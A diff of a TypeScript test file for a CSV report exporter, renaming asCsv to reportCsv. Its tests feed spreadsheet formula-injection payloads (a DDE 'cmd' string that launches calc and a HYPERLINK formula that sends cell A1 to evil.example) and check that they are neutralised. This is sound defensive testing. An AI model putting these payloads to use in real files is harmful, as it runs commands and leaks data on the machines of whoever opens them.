@@ -1,7 +1,7 @@
 /** The report as rows: whole, and nothing in it is computed by whatever opens it. */
 import { describe, expect, it } from 'vitest';
 import { LOCALES } from '../../../src/conversation/locale.ts';
-import { asCsv } from '../../../src/reports/result/as-csv.ts';
+import { reportCsv } from '../../../src/reports/result/report-csv.ts';
 import { LIVE_BEGINNINGS } from '../live-patterns.ts';
 import { NAMES, reportOf } from './made-reports.ts';
 
@@ -21,7 +21,7 @@ function cellsIn(csv: string): string[][] {
 
 describe.each(LOCALES)('rows in %s', locale => {
   it.each(NAMES)('of %s are four cells each, under headings', name => {
-    const [head, ...rows] = cellsIn(asCsv(reportOf(name, locale)));
+    const [head, ...rows] = cellsIn(reportCsv(reportOf(name, locale)));
     expect(head?.every(heading => heading !== '')).toBe(true);
     expect(rows.length).toBeGreaterThan(4);
     for (const row of rows) expect(row).toHaveLength(4);
@@ -29,7 +29,7 @@ describe.each(LOCALES)('rows in %s', locale => {
 });
 
 it('say what was judged, what holds it down and what to do, and by the ASCII minus what is below nothing', () => {
-  const rows = cellsIn(asCsv(reportOf('some of everything', 'fi')));
+  const rows = cellsIn(reportCsv(reportOf('some of everything', 'fi')));
   expect(rows).toContainEqual(['Digitalisaation pikatesti: Oulu', 'Kunta', '', 'Oulu']);
   expect(rows).toContainEqual([
     'Esteet ja toimenpiteet',
@@ -37,7 +37,7 @@ it('say what was judged, what holds it down and what to do, and by the ASCII min
     'Toimenpide',
     'Laadi digitalisaation tiekartta',
   ]);
-  const workbook = asCsv(reportOf('a workbook', 'fi'));
+  const workbook = reportCsv(reportOf('a workbook', 'fi'));
   expect(workbook).toMatch(/-\d/);
   expect(workbook).not.toContain('\u2212');
 });
@@ -47,11 +47,11 @@ const TAILS = ["cmd|'/C calc'!A0", 'HYPERLINK("https://evil.example?"&A1,"Katso"
 it.each(LIVE_BEGINNINGS)('nothing that begins with %j is live', beginning => {
   for (const tail of TAILS) {
     const words = beginning + tail;
-    const cells = cellsIn(asCsv(reportOf('some of everything', 'fi', { notes: { need: words } }))).flat();
+    const cells = cellsIn(reportCsv(reportOf('some of everything', 'fi', { notes: { need: words } }))).flat();
     const shown = cells.find(cell => cell.includes(tail)) ?? '';
     expect(shown).not.toBe('');
     const report = { ...reportOf('nothing', 'fi'), result: words, title: words };
-    for (const [part = '', , , value = ''] of cellsIn(asCsv(report)).slice(1, 3)) {
+    for (const [part = '', , , value = ''] of cellsIn(reportCsv(report)).slice(1, 3)) {
       expect(part.startsWith("'")).toBe(true);
       if (value.includes(tail)) expect(value.startsWith("'")).toBe(true);
     }
@@ -60,5 +60,5 @@ it.each(LIVE_BEGINNINGS)('nothing that begins with %j is live', beginning => {
 
 it.each(['-5', '-65 250 €', '−70 %', '-1,5'])('the number %s stays one', number => {
   const report = { ...reportOf('nothing', 'fi'), result: number };
-  expect(cellsIn(asCsv(report))[1]?.[3]).toBe(number.replace('−', '-'));
+  expect(cellsIn(reportCsv(report))[1]?.[3]).toBe(number.replace('−', '-'));
 });
